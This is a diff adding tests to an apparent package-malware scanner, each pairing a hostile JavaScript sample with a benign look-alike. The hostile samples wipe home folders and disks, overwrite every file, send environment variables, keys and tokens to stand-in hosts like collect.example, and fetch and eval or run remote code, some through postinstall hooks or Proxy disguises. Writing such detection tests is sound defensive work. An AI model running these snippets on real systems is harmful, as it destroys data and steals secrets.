@@ -1,5 +1,5 @@
 //! Each chain once as an attack and, beside it, the honest code that looks like it.
-use crate::common::{clean, flagged, imported, installed, level, package, raw, run};
+use crate::common::{clean, flagged, imported, installed, level, package, raw, run, run_for};
 use cleanbill_model::Level::{Block, Quarantine};
 
 #[test]
@@ -368,4 +368,145 @@ fn a_package_manager_run_by_a_program_is_clean() {
     ]));
     clean(&a);
     assert!(level(&a, "FLO-17").is_some());
+}
+
+#[test]
+fn whole_folders_and_disks_destroyed_are_blocked() {
+    for code in [
+        "require('fs-extra').removeSync(require('os').homedir()+'/Documents')",
+        "require('fs').rmSync(process.env.HOME+'/',{recursive:true})",
+        "require('child_process').execSync('rm -r -f ~/')",
+        "require('child_process').exec('find / -type f -delete')",
+        "require('child_process').exec('rd /s /q C:\\\\')",
+        "require('child_process').exec('dd if=/dev/zero of=/dev/sda bs=1M')",
+        "require('child_process').exec('mkfs.ext4 /dev/sda1')",
+        "require('fs').createWriteStream('/dev/nvme0n1').write(Buffer.alloc(4096))",
+    ] {
+        flagged(&installed(code), "FLO-12", Block);
+    }
+    for code in [
+        "require('child_process').execSync('rm -rf ./build dist /tmp/case-kit')",
+        "require('fs').rmSync(require('path').join(require('os').homedir(),'.cache','case-kit'),{recursive:true})",
+        "require('child_process').exec('find . -name \"*.tmp\" -delete')",
+        "require('child_process').exec('dd if=/dev/zero of=./image.bin bs=1M count=4')",
+    ] {
+        clean(&installed(code));
+    }
+}
+
+#[test]
+fn every_file_found_overwritten_or_deleted_is_held() {
+    let code = "const fs=require('fs'),path=require('path'),os=require('os');\
+        function go(dir){for(const name of fs.readdirSync(dir)){const p=path.join(dir,name);if(fs.statSync(p).isDirectory())go(p);else fs.writeFileSync(p,'gone')}}go(os.homedir())";
+    flagged(&imported(code), "FLO-12", Quarantine);
+    let code = "const fs=require('fs'),os=require('os');if(/^xx/.test(process.env.LANG)){fs.readdirSync(os.homedir()+'/Desktop').forEach((n)=>fs.unlinkSync(os.homedir()+'/Desktop/'+n))}";
+    flagged(&imported(code), "FLO-12", Quarantine);
+    let code = "const fs=require('fs');for(const e of fs.readdirSync('/',{withFileTypes:true})){if(!e.isDirectory())fs.rmSync('/'+e.name)}";
+    flagged(&imported(code), "FLO-12", Quarantine);
+    clean(&imported(
+        "const fs=require('fs'),path=require('path'),os=require('os');const dir=path.join(os.tmpdir(),'case-kit');for(const n of fs.readdirSync(dir))fs.unlinkSync(path.join(dir,n));exports.list=()=>fs.readdirSync(os.homedir())",
+    ));
+}
+
+#[test]
+fn what_a_minifier_renamed_is_known_by_where_it_is_kept() {
+    let code = "class a{constructor(e,t){this.publicKey=e,this.privateKey=t,n(t)}}function n(e){fetch('https://stats.elsewhere.example/',{method:'POST',headers:{'x-id':e}})}exports.Wallet=a";
+    flagged(&imported(code), "FLO-10", Quarantine);
+    clean(&imported(
+        "class a{constructor(e,t){this.publicKey=e,this.privateKey=t}ask(e){return fetch('https://stats.elsewhere.example/',{method:'POST',headers:{'x-id':e}})}}exports.Wallet=a",
+    ));
+    let code = "const v=require('vm');module.exports=(e,t,n)=>{v.runInThisContext(Buffer.from(e.headers['x-a'],'base64').toString())}";
+    flagged(&imported(code), "FLO-15", Block);
+}
+
+#[test]
+fn a_public_repository_made_with_what_was_gathered_is_blocked() {
+    let code = "const t=process.env.GITHUB_TOKEN;fetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+t},body:JSON.stringify({name:'x'})});fetch('https://api.github.com/repos/x/x/contents/d.json',{method:'PUT',headers:{authorization:'token '+t},body:JSON.stringify({content:Buffer.from(JSON.stringify(process.env)).toString('base64')})})";
+    flagged(&installed(code), "FLO-14", Block);
+}
+
+#[test]
+fn what_a_proxy_gives_is_what_its_trap_gives() {
+    let via = "const via=(v)=>new Proxy({},{get:function(t,k){return k==='item'?v:t}}).item;";
+    let code = format!(
+        "{via}require(via('https')).request(via('https://collect.example/'),via({{method:'POST'}})).end(via(JSON.stringify(via(process.env))))"
+    );
+    flagged(&installed(&code), "FLO-01", Block);
+    let callback = format!(
+        "{via}require('https').get(via('https://collect.example/'),via((r)=>r.on('data',via((d)=>eval(via(d.toString()))))))"
+    );
+    flagged(&installed(&callback), "FLO-03", Block);
+}
+
+#[test]
+fn a_proxy_that_watches_calls_and_writes_is_seen_through() {
+    let calls = "const spy=new Proxy(fetch,{apply(f,self,args){return Reflect.apply(f,self,args)}});\
+        spy('https://collect.example/',{method:'POST',body:JSON.stringify(process.env)})";
+    flagged(&installed(calls), "FLO-01", Block);
+    let writes = "const box=new Proxy({},{set(t,k,v){fetch('https://collect.example/',{method:'POST',body:v});return true}});\
+        box.all=JSON.stringify(process.env)";
+    flagged(&installed(writes), "FLO-01", Block);
+    let list = "const list=new Proxy([],{get(t,k){return t[k]}});list.push(JSON.stringify(process.env));\
+        for(const one of list)fetch('https://collect.example/',{method:'POST',body:one})";
+    flagged(&installed(list), "FLO-01", Block);
+}
+
+#[test]
+fn proxies_that_only_name_or_default_are_clean() {
+    clean(&imported(
+        "const api=new Proxy({},{get:(t,name)=>t[name]||(t[name]=(q)=>fetch('https://api.acme.example/v1/'+name,{method:'POST',body:JSON.stringify(q)}))});\
+        module.exports=api;exports.self=new Proxy(api,{get(t,k,self){return k==='deep'?self[k]:Reflect.get(t,k,self)}})",
+    ));
+}
+
+#[test]
+fn a_function_handed_on_from_everywhere_stays_itself() {
+    let mut code = String::from("function via(v){return v}function keep(v,f){return f(via(v))}\n");
+    for ix in 0..120 {
+        code.push_str(&format!(
+            "exports.f{ix}=(a)=>keep(via(a),(b)=>via(b)+{ix});exports.f{ix}(exports.x{ix}&&Math.random())\n"
+        ));
+    }
+    code.push_str(
+        "keep(process.env,(e)=>require('https').request(via('https://collect.example/')).end(via(JSON.stringify(via(e)))))",
+    );
+    flagged(&installed(&code), "FLO-01", Block);
+}
+
+#[test]
+fn a_redirect_is_as_good_as_who_was_asked() {
+    let code = |host: &str| {
+        format!(
+            "const https=require('https'),fs=require('fs'),cp=require('child_process');\
+            function load(url){{return new Promise((ok,no)=>{{https.get(url,(r)=>{{\
+                if((r.statusCode===301||r.statusCode===302)&&r.headers.location)return load(r.headers.location).then(ok,no);\
+                const parts=[];r.on('data',(d)=>parts.push(d));r.on('end',()=>ok(Buffer.concat(parts)))}}).on('error',no)}})}}\
+            load('https://{host}/tool.tgz').then((b)=>{{fs.writeFileSync(__dirname+'/tool',b);cp.execFileSync(__dirname+'/tool')}})"
+        )
+    };
+    let run_at = |host: &str| {
+        let files = [
+            (
+                "package.json",
+                r#"{"name":"case","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
+            ),
+            ("setup.js", &code(host)),
+        ];
+        run_for(package(&files), "packages.example")
+    };
+    let known = run_at("packages.example");
+    clean(&known);
+    assert!(known.unassessed.is_empty(), "{:?}", known.unassessed);
+    flagged(&run_at("collect.example"), "FLO-06", Block);
+    // What an answer says is no redirect.
+    let told = "const https=require('https');https.get('https://packages.example/x',(r)=>{r.on('data',(d)=>{\
+        https.get(JSON.parse(d).location,(s)=>s.on('data',(c)=>eval(c.toString())))})})";
+    let files = [
+        (
+            "package.json",
+            r#"{"name":"case","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
+        ),
+        ("setup.js", told),
+    ];
+    flagged(&run_for(package(&files), "packages.example"), "FLO-03", Block);
 }
